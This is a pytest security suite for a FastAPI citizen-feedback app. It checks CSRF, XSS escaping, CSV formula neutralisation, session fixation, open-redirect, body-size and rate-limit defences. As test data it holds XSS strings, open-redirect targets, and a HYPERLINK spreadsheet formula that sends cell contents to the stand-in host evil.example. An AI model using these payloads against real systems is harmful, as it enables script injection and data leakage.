"""Attacks on the app, each answered by its defence: CSRF, stored XSS through complaint text,
CSV formula injection, session fixation, open redirects, oversized bodies, rate limits, and
a citizen's step on a case in the wrong state (once a 500)."""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from datetime import date
from uuid import UUID, uuid4

import pytest
from fastapi.testclient import TestClient

from feedback_core.identity import case_id_for
from feedback_core.settings import Settings
from tests.security.conftest import (
    ADMIN,
    HANDLER,
    HEAD,
    INSPECTOR,
    SecurityApp,
    build_security_app,
    signed_in,
)
from tests.web.web_doubles import hidden, log_in
from web.app import MAX_BODY_BYTES, SESSION_COOKIE

SCRIPT = "<script>alert('xss')</script>"
IMG = '<img src=x onerror="alert(1)">'
PAYLOAD = f"Cán bộ đòi tiền {SCRIPT} {IMG} rồi mới nhận hồ sơ."


def submit(client: TestClient, secured: SecurityApp, description: str, **extra: str) -> str:
    """A complaint through the QR form of Quầy 1 of Nhật Tân; its tracking code."""
    token = secured.services.qr_token_of("nhat-tan-q1")
    sid = str(uuid4())
    form = {"submission_id": sid, "rating": "1", "category": "harassment",
            "description": description, **extra}
    answer = client.post(f"/q/{token}", data=form)
    assert answer.status_code == 303, answer.text
    return answer.headers["location"].removeprefix("/t/").split("?")[0]


def case_of(code: str, secured: SecurityApp) -> UUID:
    status = secured.services.queries.submission(code)
    assert status is not None
    return case_id_for(status.submission_id)


def events_stored(secured: SecurityApp) -> int:
    return int(secured.store.recorder.max_notification_id() or 0)


# --- CSRF -----------------------------------------------------------------------------------


@pytest.mark.parametrize("token", [None, "", "guessed-token", "A" * 43])
def test_a_staff_post_without_the_sessions_token_is_403_and_records_nothing(
    web: TestClient, secured: SecurityApp, token: str | None
) -> None:
    code = submit(web, secured, "Phải đến ba lần mới nộp được hồ sơ.")
    case_id = case_of(code, secured)
    signed_in(web, HEAD)
    before = events_stored(secured)
    form = {"version": "1", "reason": "Đủ điều kiện thụ lý"}
    if token is not None:
        form["csrf_token"] = token
    for path, data in [
        (f"/staff/cases/{case_id}/accept", form),
        ("/staff/queue/assign", {**form, "case": str(case_id), "assignee": HANDLER}),
        ("/logout", form),
    ]:
        answer = web.post(path, data=data)
        assert answer.status_code == 403, (path, answer.status_code)
    assert events_stored(secured) == before
    assert web.get("/staff/queue").status_code == 200  # still signed in: logout refused too


def test_a_token_of_another_session_is_refused(secured: SecurityApp) -> None:
    with TestClient(secured.app, follow_redirects=False) as attacker, \
            TestClient(secured.app, follow_redirects=False) as victim:
        their_token = signed_in(attacker, HANDLER)
        signed_in(victim, HEAD)
        answer = victim.post("/logout", data={"csrf_token": their_token})
        assert answer.status_code == 403


# --- stored XSS -----------------------------------------------------------------------------


def assert_escaped(html: str, page: str, shown: bool = True) -> None:
    assert "<script>alert" not in html and "<img src=x" not in html, page
    if shown:
        assert "&lt;script&gt;" in html or "&lt;img" in html, f"{page} does not show the text"


def test_complaint_text_is_escaped_on_every_page_that_shows_it(
    web: TestClient, secured: SecurityApp
) -> None:
    code = submit(web, secured, PAYLOAD, contact="lan@example.vn", consent="1")
    case_id = case_of(code, secured)

    tracking = web.get(f"/t/{code}")
    assert tracking.status_code == 200
    assert_escaped(tracking.text, "tracking", shown=False)  # it never shows the text
    signed_in(web, HEAD)
    queue = web.get("/staff/queue", params={"q": "đòi tiền"})
    assert code in queue.text
    assert_escaped(queue.text, "queue")
    assert_escaped(web.get(f"/staff/cases/{case_id}").text, "case")

    web.cookies.clear()
    signed_in(web, INSPECTOR)
    assert_escaped(web.get(f"/inspect/cases/{case_id}").text, "inspector")
    # The audit bundle (built from the PostgreSQL chain, 503 here) is JSON, never HTML.
    export = web.get(f"/inspect/cases/{case_id}/export.json")
    assert export.headers["content-type"].startswith("application/json")
    assert export.headers["x-content-type-options"] == "nosniff"  # never sniffed as HTML
    assert "<script>" not in json.dumps(export.json())


def test_a_reply_and_a_note_with_markup_are_escaped_too(
    web: TestClient, secured: SecurityApp
) -> None:
    code = submit(web, secured, "Chờ quá lâu.")
    case_id = case_of(code, secured)
    token = signed_in(web, HEAD)
    page = web.get(f"/staff/cases/{case_id}")
    answer = web.post(f"/staff/cases/{case_id}/note", data={
        "csrf_token": token, "version": hidden(page.text, "version"), "text": IMG})
    assert answer.status_code == 303, answer.text
    assert_escaped(web.get(f"/staff/cases/{case_id}").text, "note")


def test_csv_export_cells_never_start_a_formula(web: TestClient, secured: SecurityApp) -> None:
    from web.dashboard_tables import not_a_formula

    org = secured.services.org_app
    assert org is not None
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'
    with org.changes(ADMIN) as changes:
        changes.rename_unit("nhat-tan", name_vi=formula, name_en="x",
                            effective_on=date(2026, 1, 1))
    secured.services.refresh_organisation()
    signed_in(web, HEAD)
    export = web.get("/staff/dashboard/units.csv")
    assert export.status_code == 200, export.text
    text = export.content.decode("utf-8-sig")
    assert "'=HYPERLINK" in text
    assert not re.search(r'(^|,)"?[=+\-@]', text, re.M), text
    assert [not_a_formula(v) for v in ("=1+1", "+1", "-1", "@SUM(A1)", "Phường", 5, -1)] == [
        "'=1+1", "'+1", "'-1", "'@SUM(A1)", "Phường", 5, -1]


# --- session fixation -----------------------------------------------------------------------


def test_signing_in_replaces_the_session_and_a_planted_one_is_not_adopted(
    secured: SecurityApp,
) -> None:
    with TestClient(secured.app, follow_redirects=False) as attacker:
        attacker.get("/login")  # a valid anonymous session, with its CSRF token
        planted = attacker.cookies[SESSION_COOKIE]
    with TestClient(secured.app, follow_redirects=False) as victim:
        victim.cookies.set(SESSION_COOKIE, planted)
        answer = log_in(victim, HEAD)
        assert answer.status_code == 303
        after = answer.cookies.get(SESSION_COOKIE)
        assert after and after != planted
    with TestClient(secured.app, follow_redirects=False) as attacker:
        attacker.cookies.set(SESSION_COOKIE, planted)
        assert attacker.get("/staff/queue").status_code == 303  # still signed out
        assert attacker.get("/staff/queue").headers["location"].startswith("/login")


def test_a_forged_session_cookie_is_ignored(secured: SecurityApp) -> None:
    other = build_security_app(Settings(secret_key="someone-elses-secret"))
    with TestClient(other.app, follow_redirects=False) as elsewhere:
        log_in(elsewhere, HEAD)
        forged = elsewhere.cookies[SESSION_COOKIE]
    with TestClient(secured.app, follow_redirects=False) as client:
        client.cookies.set(SESSION_COOKIE, forged)
        assert client.get("/staff/queue").status_code == 303


# --- open redirects -------------------------------------------------------------------------


@pytest.mark.parametrize("target", [
    "https://evil.example/", "//evil.example/", "/\\evil.example", "\\\\evil.example",
    "http:evil.example", "javascript:alert(1)", " //evil.example", "/%2F%2Fevil.example",
    "\t//evil.example",
])
def test_next_after_sign_in_never_leaves_the_site(web: TestClient, target: str) -> None:
    answer = log_in(web, HEAD, next_url=target)
    assert answer.status_code == 303
    location = answer.headers["location"]
    assert location.startswith("/") and not location.startswith(("//", "/\\")), location
    # The landing page; or a path on this site (an encoded slash is a path, not a host).
    assert location == "/staff/queue" or location == target == "/%2F%2Fevil.example"


def test_a_local_next_is_kept(web: TestClient) -> None:
    answer = log_in(web, HEAD, next_url="/staff/dashboard")
    assert answer.headers["location"] == "/staff/dashboard"


# --- oversized bodies -----------------------------------------------------------------------


def chunks(total: int, size: int = 64 * 1024) -> Iterator[bytes]:
    sent = 0
    while sent < total:
        yield b"a" * min(size, total - sent)
        sent += size


def test_a_declared_oversized_body_is_413_without_being_read(
    web: TestClient, secured: SecurityApp
) -> None:
    signed_in(web, HEAD)
    before = events_stored(secured)
    answer = web.post(
        "/staff/queue/assign", content=b"x" * (MAX_BODY_BYTES + 1),
        headers={"Content-Type": "application/x-www-form-urlencoded"},
    )
    assert answer.status_code == 413
    assert "Nội dung gửi lên quá lớn" in answer.text
    assert events_stored(secured) == before


def test_a_streamed_body_is_cut_off_at_the_limit(web: TestClient) -> None:
    read: list[int] = []

    def counting() -> Iterator[bytes]:
        for chunk in chunks(MAX_BODY_BYTES * 5):
            read.append(len(chunk))
            yield chunk

    answer = web.post("/login", content=counting(),
                      headers={"Content-Type": "application/x-www-form-urlencoded"})
    assert answer.status_code == 413
    assert "quá lớn" in answer.text


def test_the_qr_form_takes_a_photo_over_the_general_limit(
    web: TestClient, secured: SecurityApp
) -> None:
    """A photo of 2 MB passes the body limit and reaches the photo check (which refuses it
    for not being an image, with its own message, keeping the typed text)."""
    token = secured.services.qr_token_of("nhat-tan-q1")
    answer = web.post(
        f"/q/{token}",
        data={"submission_id": str(uuid4()), "rating": "2", "description": "Ảnh kèm theo"},
        files={"photo": ("a.jpg", b"\0" * 2_000_000, "image/jpeg")},
    )
    assert answer.status_code == 415, answer.status_code
    assert "Ảnh kèm theo" in answer.text


# --- rate limits ----------------------------------------------------------------------------


def test_the_qr_form_past_its_limit_is_429_with_when_to_try_again(
    secured: SecurityApp,
) -> None:
    limited = build_security_app(Settings(secret_key="s", qr_posts_per_client_per_minute=3))
    token = limited.services.qr_token_of("nhat-tan-q1")
    with TestClient(limited.app, follow_redirects=False) as client:
        answers = [
            client.post(f"/q/{token}", data={"submission_id": str(uuid4()), "rating": "4",
                                              "description": f"Lần {n}"})
            for n in range(5)
        ]
    assert [a.status_code for a in answers] == [303, 303, 303, 429, 429]
    refused = answers[3]
    assert 0 < int(refused.headers["Retry-After"]) <= 60
    assert "Vui lòng thử lại sau 1 phút" in refused.text
    assert "Lần 3" in refused.text  # what was typed is kept
    assert limited.store.recorder.max_notification_id() == 6  # a rating and a case, 3 times


# --- bad input on a citizen's step ----------------------------------------------------------


def test_a_reply_on_a_case_not_waiting_for_one_is_a_clear_4xx(
    web: TestClient, secured: SecurityApp
) -> None:
    """Was a 500 (IndexError in CaseDesk) until the state machine test found it."""
    code = submit(web, secured, "Thiếu hướng dẫn.")
    answer = web.post(f"/t/{code}/reply", data={"text": "Tôi bổ sung", "version": "1"})
    assert 400 <= answer.status_code < 500, answer.status_code
